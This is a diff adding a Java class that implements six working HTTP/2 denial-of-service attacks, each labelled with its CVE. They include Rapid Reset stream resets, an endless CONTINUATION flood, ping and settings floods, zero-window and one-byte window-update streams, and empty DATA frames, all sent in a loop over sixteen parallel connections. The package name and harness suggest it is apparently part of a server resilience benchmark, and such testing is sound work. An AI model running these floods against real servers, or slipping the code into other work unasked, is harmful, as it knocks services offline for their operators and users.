@@ -1,0 +1,113 @@
+package io.arbitration.command.bench;
+
+import java.io.ByteArrayOutputStream;
+import java.net.Socket;
+import java.nio.ByteBuffer;
+import java.nio.charset.StandardCharsets;
+import java.time.Duration;
+import java.util.List;
+
+/** Frames of HTTP/2 (RFC 9113) that cost much to take and little to send. */
+final class FrameAttacks {
+
+    private static final int AT_ONCE = 16;
+    private static final int READ_BYTES = 65_536;
+    private static final byte[] NOTHING = {};
+    private static final int DATA = 0;
+    private static final int HEADERS = 1;
+    private static final int RST_STREAM = 3;
+    private static final int SETTINGS = 4;
+    private static final int PING = 6;
+    private static final int WINDOW_UPDATE = 8;
+    private static final int CONTINUATION = 9;
+    private static final int END_STREAM = 1;
+    private static final int END_HEADERS = 4;
+    private static final int CANCEL = 8;
+    private static final int INITIAL_WINDOW_SIZE = 4;
+    /** Indexed fields of the static table, GET, http and /; and :authority as a literal. */
+    private static final byte[] GET = {(byte) 0x82, (byte) 0x86, (byte) 0x84, 0x01, 0x09, 'l', 'o', 'c', 'a', 'l', 'h', 'o', 's', 't'};
+    /** The same for POST /index.html. */
+    private static final byte[] POST = {(byte) 0x83, (byte) 0x86, (byte) 0x85, 0x01, 0x09, 'l', 'o', 'c', 'a', 'l', 'h', 'o', 's', 't'};
+
+    private FrameAttacks() {}
+
+    static List<Attack> all() {
+        return List.of(
+                new Attack("streams reset", "HTTP/2 streams are opened and reset at once (CVE-2023-44487)", stage -> play(stage, resets(), NOTHING)),
+                new Attack("continuations", "HTTP/2 heads go on without an end (CVE-2024-27983)",
+                        stage -> play(stage, frame(HEADERS, END_STREAM, 1, GET), often(frame(CONTINUATION, 0, 1, NOTHING)))),
+                new Attack("pings", "HTTP/2 pings and settings ask for nothing but an acknowledgement (CVE-2019-9512, -9515)",
+                        stage -> play(stage, frame(HEADERS, END_HEADERS | END_STREAM, 1, GET), often(frame(PING, 0, 0, new byte[8]), frame(SETTINGS, 0, 0, NOTHING)))),
+                new Attack("closed windows", "HTTP/2 streams are opened, and nothing may be sent on them (CVE-2019-9517)", stage -> play(stage, closedWindows(), NOTHING)),
+                new Attack("window updates", "HTTP/2 windows are opened by one byte each time (CVE-2019-9511)",
+                        stage -> play(stage, together(window(1), frame(HEADERS, END_HEADERS | END_STREAM, 1, GET)), often(frame(WINDOW_UPDATE, 0, 1, number(1))))),
+                new Attack("empty data", "HTTP/2 bodies of frames without a byte (CVE-2019-9518)",
+                        stage -> play(stage, frame(HEADERS, END_HEADERS, 1, POST), often(frame(DATA, 0, 1, NOTHING)))));
+    }
+
+    /** Sends frames on sixteen connections, the second ones over and over, and reads what comes; opens another one when the server closes it. */
+    private static void play(AttackStage stage, byte[] once, byte[] overAndOver) throws InterruptedException {
+        byte[] first = together("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII), frame(SETTINGS, 0, 0, NOTHING), once);
+        stage.together(AT_ONCE, () -> {
+            try (Socket socket = stage.connect()) {
+                socket.getOutputStream().write(first);
+                byte[] answer = new byte[READ_BYTES];
+                boolean open = true;
+                while (open && !stage.isOver()) {
+                    socket.getOutputStream().write(overAndOver);
+                    boolean mustRead = overAndOver.length == 0 || socket.getInputStream().available() > 0;
+                    open = !mustRead || socket.getInputStream().read(answer) >= 0;
+                    stage.pause(Duration.ofMillis(1));
+                }
+            }
+        });
+    }
+
+    private static byte[] resets() {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        for (int stream = 1; stream < 2000; stream += 2) {
+            bytes.writeBytes(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET));
+            bytes.writeBytes(frame(RST_STREAM, 0, stream, number(CANCEL)));
+        }
+        return bytes.toByteArray();
+    }
+
+    private static byte[] closedWindows() {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        bytes.writeBytes(window(0));
+        for (int stream = 1; stream < 255; stream += 2) {
+            bytes.writeBytes(frame(HEADERS, END_HEADERS | END_STREAM, stream, GET));
+        }
+        return bytes.toByteArray();
+    }
+
+    /** Bytes that the server may send on each stream until it is granted more. */
+    private static byte[] window(int bytes) {
+        return frame(SETTINGS, 0, 0, ByteBuffer.allocate(6).putShort((short) INITIAL_WINDOW_SIZE).putInt(bytes).array());
+    }
+
+    private static byte[] number(int number) {
+        return ByteBuffer.allocate(4).putInt(number).array();
+    }
+
+    private static byte[] often(byte[]... frames) {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        for (int i = 0; i < 1000; i++) {
+            bytes.writeBytes(together(frames));
+        }
+        return bytes.toByteArray();
+    }
+
+    private static byte[] together(byte[]... frames) {
+        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
+        for (byte[] frame : frames) {
+            bytes.writeBytes(frame);
+        }
+        return bytes.toByteArray();
+    }
+
+    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
+        return ByteBuffer.allocate(9 + payload.length).put((byte) 0).putShort((short) payload.length).put((byte) type).put((byte) flags).putInt(stream)
+                .put(payload).array();
+    }
+}
